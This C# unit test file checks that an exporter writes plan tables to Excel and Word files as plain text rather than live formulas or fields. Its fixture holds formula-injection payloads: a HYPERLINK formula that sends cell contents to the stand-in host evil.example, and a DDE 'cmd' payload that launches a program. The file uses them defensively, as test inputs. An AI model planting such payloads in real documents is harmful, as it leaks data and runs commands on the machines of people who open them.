using System.IO.Compression;
using OpsKnowledge.Planning.Bootstrap;

namespace OpsKnowledge.Planning.Tests.Bootstrap;

/// <summary>Skeleton files carry document text into Excel and Word: a cell that reads like a formula stays text there.</summary>
public sealed class FormulaInjectionTests
{
    private const string Payload = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";

    private static readonly PlanSkeleton Skeleton = new PlanSkeletonBuilder().Build(SkeletonFixture.Plans, SkeletonFixture.Records, new PlanSkeletonOptions { Title = "草稿" }) is var built
        ? built with { Tables = [.. built.Tables.Select(t => t with { Rows = [.. t.Rows, [Payload, "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "", ""]] })] }
        : throw new InvalidOperationException();

    [Fact]
    public void Xlsx_CellsAreSharedStrings_NeverFormulas()
    {
        var parts = Parts(BootstrapFormat.Xlsx);

        Assert.All(parts.Where(p => p.Key.StartsWith("xl/worksheets/", StringComparison.Ordinal)), sheet =>
        {
            Assert.DoesNotContain("<x:f>", sheet.Value);
            Assert.DoesNotContain("<f>", sheet.Value);
            Assert.DoesNotContain("t=\"str\"", sheet.Value);
        });
        Assert.Contains("=HYPERLINK(", parts["xl/sharedStrings.xml"]);
    }

    [Fact]
    public void Docx_HoldsTheTextAsRuns_WithoutFields()
    {
        var document = Parts(BootstrapFormat.Docx)["word/document.xml"];

        Assert.Contains("=HYPERLINK(", document);
        Assert.DoesNotContain("fldSimple", document);
        Assert.DoesNotContain("instrText", document);
    }

    private static Dictionary<string, string> Parts(BootstrapFormat format)
    {
        using var stream = new MemoryStream();
        SkeletonWriters.For(format).Write(stream, Skeleton);
        stream.Position = 0;
        using var zip = new ZipArchive(stream, ZipArchiveMode.Read);
        return zip.Entries.ToDictionary(e => e.FullName, e => new StreamReader(e.Open()).ReadToEnd());
    }
}
